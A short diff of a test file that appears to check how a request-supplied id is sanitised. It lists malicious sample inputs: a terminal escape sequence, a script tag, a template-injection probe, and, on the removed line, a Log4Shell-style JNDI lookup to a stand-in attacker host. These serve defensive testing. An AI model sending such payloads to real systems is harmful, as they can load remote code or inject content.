@@ -104,7 +104,7 @@ describe('an id that the request brings', () => {
     ['a tab', 'a\tb'],
     ['a terminal escape (CSI)', 'a\u009b2J'],
     ['markup', '<script>'],
-    ['a template', '${jndi:ldap://evil.example}'],
+    ['a template', '{{7*7}}'],
     ['text beyond ASCII', 'é'],
     ['two of them, joined', 'a, b'],
   ])('is replaced where it is no id: %s', async (_, claimed) => {
